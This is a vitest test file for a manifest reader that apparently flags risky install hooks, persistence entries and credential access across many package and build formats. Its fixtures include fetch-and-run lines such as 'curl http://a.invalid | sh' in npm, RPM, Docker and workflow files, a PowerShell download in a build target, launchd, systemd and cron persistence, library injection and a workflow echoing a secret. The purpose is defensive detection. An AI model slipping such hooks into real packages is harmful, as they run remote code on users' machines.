import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { Capability } from '../../capability.ts'
import { manifest } from './index.ts'

const modules = join(import.meta.dirname, '..', '..', '..', '..', 'node_modules')

function reading(path: string, text: string) {
  const bytes = Buffer.from(text)
  expect(manifest.recognise({ path, size: bytes.length, bytes: bytes.subarray(0, 4096) })).toBeGreaterThan(0.5)
  const { units, traits, notes } = manifest.read({ path, bytes })
  return { units, notes, says: units.map(({ kind, says }) => `${kind} ${says}`), traits: Object.fromEntries(traits.map(({ name, value }) => [name, value])) }
}

test('package.json: hooks, dependencies of every kind, entries', () => {
  const { units, says, traits } = reading(
    'package/package.json',
    JSON.stringify(
      {
        name: 'a',
        version: '1.0.0',
        scripts: { preinstall: 'node bundle.js', postinstall: 'curl http://a.invalid | sh', test: 'vitest', prepublishOnly: 'tsc' },
        dependencies: { plain: '^4', far: 'git+https://b.invalid/y.git' },
        optionalDependencies: { maybe: '1' },
        peerDependencies: { host: '*' },
        devDependencies: { tool: '2' },
        bundledDependencies: ['inside'],
        overrides: { deep: '3' },
        bin: './a.js',
        main: 'i.js',
        gypfile: true,
        activationEvents: ['*'],
      },
      null,
      1,
    ),
  )
  expect(says).toEqual([
    'manifest.hook preinstall: node bundle.js',
    'manifest.hook postinstall: curl http://a.invalid | sh',
    'manifest.script test: vitest',
    'manifest.publish-script prepublishOnly: tsc',
    'manifest.dependency plain@^4',
    'manifest.dependency far@git+https://b.invalid/y.git',
    'manifest.dependency maybe@1 (optional)',
    'manifest.dependency host@* (peer)',
    'manifest.other-dependency tool@2 (development)',
    'manifest.dependency inside@* (bundled)',
    'manifest.override deep@3',
    'manifest.command a: ./a.js',
    'manifest.hook install: node-gyp rebuild',
    'manifest.hook *: i.js',
  ])
  expect(units[0]?.files).toEqual(['bundle.js'])
  expect(units[0]?.place.line).toBe(5)
  expect(units[1]?.capabilities).toEqual(expect.arrayContaining<Capability>(['network', 'evaluate', 'shell']))
  expect(units[1]?.hosts).toEqual(['a.invalid'])
  expect(units[5]).toMatchObject({ imports: ['far'], capabilities: ['network'] })
  expect(traits).toMatchObject({ 'manifest.name': 'a', 'manifest.version': '1.0.0', 'manifest.entry.main': 'i.js' })
})

test('every package.json that is installed here is read without a note', () => {
  for (const name of readdirSync(modules).filter((one) => /^[a-z]/.test(one))) {
    const path = join(modules, name, 'package.json')
    const text = readFileSync(path, 'utf8')
    const { notes, says } = reading(path, text)
    expect(notes).toEqual([])
    const { dependencies = {} } = JSON.parse(text)
    for (const [dependency, range] of Object.entries(dependencies)) expect(says).toContain(`manifest.dependency ${dependency}@${range}`)
  }
})

test.each<[path: string, text: string, says: readonly string[], ...can: Capability[]]>([
  [
    'x/pyproject.toml',
    '[project]\nname = "x"\ndependencies = [\n "requests[a]>=2", # c ]\n "y @ https://h.invalid/z"\n]\n[build-system]\nrequires=["setuptools"]\n[project.scripts]\nfoo = "a:b"\n',
    [
      'manifest.dependency requests@>=2',
      'manifest.dependency y@https://h.invalid/z',
      'manifest.other-dependency setuptools@* (build)',
      'manifest.command foo: a:b',
    ],
    'network',
  ],
  ['x/setup.cfg', '[options]\ninstall_requires =\n  a>=1\n  b\n[metadata]\nname = x\n', ['manifest.dependency a@>=1', 'manifest.dependency b@*']],
  ['a.dist-info/METADATA', 'Name: x\nRequires-Dist: foo (>=1)\n\nRequires-Dist: body\n', ['manifest.dependency foo@>=1']],
  ['a.dist-info/RECORD', 'a/b.py,sha256=x,1\na.pth,sha256=y,2\n', ['manifest.hook python start: a.pth']],
  [
    'c.tar!/control',
    'Package: foo\nVersion: 1\nDepends: libc6 (>= 2.3),\n bar:any | baz\n',
    ['manifest.dependency libc6@>= 2.3', 'manifest.dependency bar@*', 'manifest.dependency baz@*'],
  ],
  [
    'x.spec',
    'Name: x\nRequires: a >= 1, b\n%post\ncurl http://c.invalid | sh\n%files\n',
    ['manifest.dependency a@>= 1', 'manifest.dependency b@*', 'shell.hook curl http://c.invalid | sh'],
    'network',
  ],
  ['x.nuspec', '<package><metadata><id>x</id><dependencies><dependency id="a" version="1"/></dependencies></metadata></package>', ['manifest.dependency a@1']],
  [
    'build/x.targets',
    '<Project><Target Name="t" BeforeTargets="Build"><Exec Command="powershell -c iwr http://t.invalid"/></Target></Project>',
    ['manifest.hook build: powershell -c iwr http://t.invalid', 'manifest.target t Build'],
    'execute',
    'network',
  ],
  [
    'Library/LaunchAgents/a.plist',
    '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl http://l.invalid</string></array></dict></plist>',
    ['manifest.hook launchd ProgramArguments: /bin/sh -c curl http://l.invalid'],
    'persistence',
    'network',
  ],
  [
    'App/Info.plist',
    '<plist><dict><key>LSEnvironment</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>x</string></dict></dict></plist>',
    ['manifest.permission LSEnvironment: DYLD_INSERT_LIBRARIES x'],
    'injection',
  ],
  [
    'x/manifest.json',
    '{"manifest_version":3,"permissions":["cookies"],"background":{"service_worker":"b.js"}}',
    ['manifest.permission cookies', 'manifest.hook background: b.js'],
    'credentials',
  ],
  [
    'x/Dockerfile',
    'FROM node:20\nRUN apt-get update && \\\n curl http://d.invalid | sh\nENTRYPOINT ["sh","-c","x"]\n',
    [
      'manifest.other-dependency node:20@* (base image)',
      'manifest.run apt-get update',
      'manifest.run curl http://d.invalid | sh',
      'manifest.hook entrypoint: sh -c x',
    ],
    'network',
  ],
  ['META-INF/MANIFEST.MF', 'Main-Class: a.B\r\nPremain-Class: a.\r\n C\r\n', ['manifest.hook Premain-Class: a.C'], 'injection'],
  [
    'x.service',
    '[Service]\nExecStart=-/bin/sh -c "curl http://s.invalid"\n',
    ['manifest.hook ExecStart: /bin/sh -c "curl http://s.invalid"'],
    'persistence',
    'network',
  ],
  [
    'x/binding.gyp',
    "{ # c\n 'targets': [{'sources': ['a.cc'], 'x': '<!(node -p \"1\")'}]}",
    ['manifest.hook install: node-gyp rebuild', 'manifest.hook install command: node -p "1"', 'manifest.source a.cc'],
    'evaluate',
  ],
  [
    'x/.npmrc',
    'registry=https://r.invalid/\n//r.invalid/:_authToken=abc\n',
    ['manifest.setting registry=https://r.invalid/', 'manifest.setting //r.invalid/:_authToken=…'],
    'credentials',
  ],
  ['etc/cron.d/x', '# c\n*/5 * * * * root /tmp/x\n', ['manifest.hook cron */5 * * * *: root /tmp/x'], 'persistence'],
])('%s', (path, text, says, ...can) => {
  const read = reading(path, text)
  expect(read.notes).toEqual([])
  expect(read.says).toEqual(says)
  expect(read.units.flatMap(({ capabilities }) => capabilities)).toEqual(expect.arrayContaining(can))
})

test('a workflow: events, rights, actions, commands at their lines, secrets and what comes from outside', () => {
  const text =
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is source code to be read
    'on:\n  pull_request_target:\njobs:\n  b:\n    permissions:\n      contents: write\n    steps:\n      - uses: a/b@v1\n      - run: |\n          curl -s https://r.invalid | sh\n          echo ${{ secrets.NPM_TOKEN }} ${{ github.event.issue.title }}\n'
  const { units, says } = reading('.github/workflows/a.yml', text)
  expect(says.slice(0, 4)).toEqual([
    'manifest.event pull_request_target',
    'manifest.permission contents: write',
    'manifest.uses a/b@v1',
    'manifest.run curl -s https://r.invalid | sh',
  ])
  expect(units.map(({ place }) => place.line)).toEqual([2, 6, 8, 10, 11])
  expect(units[4]?.capabilities).toEqual(expect.arrayContaining<Capability>(['credentials', 'evaluate']))
})

test('entities of their own making, aliases in circles and broken documents are noted', () => {
  expect(reading('x.nuspec', '<!DOCTYPE a [<!ENTITY b "c">]><package>&b;</package>').notes).toHaveLength(1)
  expect(reading('.github/workflows/a.yml', 'a: &a [*a, *a]\nb: *a\n').units).toEqual([])
  expect(reading('package.json', '{"a":').notes).toHaveLength(1)
})
